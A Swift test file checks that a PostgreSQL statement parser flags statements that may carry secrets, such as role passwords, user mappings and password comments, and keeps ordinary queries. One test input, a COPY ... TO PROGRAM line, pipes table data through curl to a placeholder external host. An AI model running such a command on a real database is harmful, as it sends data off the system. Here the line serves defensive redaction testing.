import StatementParser
import Testing

/// Which statement texts collection drops because they can carry a secret.
@Suite struct SecretTextTests {
    @Test(arguments: [
        "CREATE ROLE app LOGIN PASSWORD 'hunter2'",
        "create user app with encrypted password 'hunter2'",
        "ALTER USER app VALID UNTIL 'infinity'",
        "ALTER ROLE app WITH LOGIN",
        "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'app', secret_token 'x')",
        "ALTER USER MAPPING FOR app SERVER remote OPTIONS (SET user 'other')",
        "ALTER SYSTEM SET work_mem = '64MB'",
        "COPY events TO PROGRAM 'curl -d @- https://example.invalid/?k=abc'",
        "CREATE SUBSCRIPTION s CONNECTION 'host=db1 user=rep' PUBLICATION p",
        "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db1', password_required 'false')",
        "SELECT 1 /* password=hunter2 */",
        "DO $$ BEGIN EXECUTE 'ALTER ROLE app PASSWD x'; END $$",
        // truncated at track_activity_query_size: does not parse, judged by its words
        "CREATE ROLE app LOGIN ENCRYPTED PASSWO",
        "ALTER SYSTEM SET shared_preload_libraries = 'pg_stat_statements', '",
    ])
    func dropped(_ text: String) {
        #expect(StatementParser.mayCarrySecret(text), "\(text)")
    }

    @Test(arguments: [
        "SELECT id, email FROM users WHERE id = $1",
        "INSERT INTO roles_audit (role_name) VALUES ($1)",
        "COPY events TO STDOUT",
        "COPY events FROM '/tmp/events.csv'",
        "CREATE TABLE users (id int PRIMARY KEY)",
        "VACUUM ANALYZE users",
        "SET work_mem = '64MB'",
        "ALTER TABLE users ADD COLUMN nickname text",
        // truncated, without any word of a secret-bearing statement
        "SELECT id FROM orders WHERE created_at > $1 AND (",
    ])
    func kept(_ text: String) {
        #expect(!StatementParser.mayCarrySecret(text), "\(text)")
    }
}
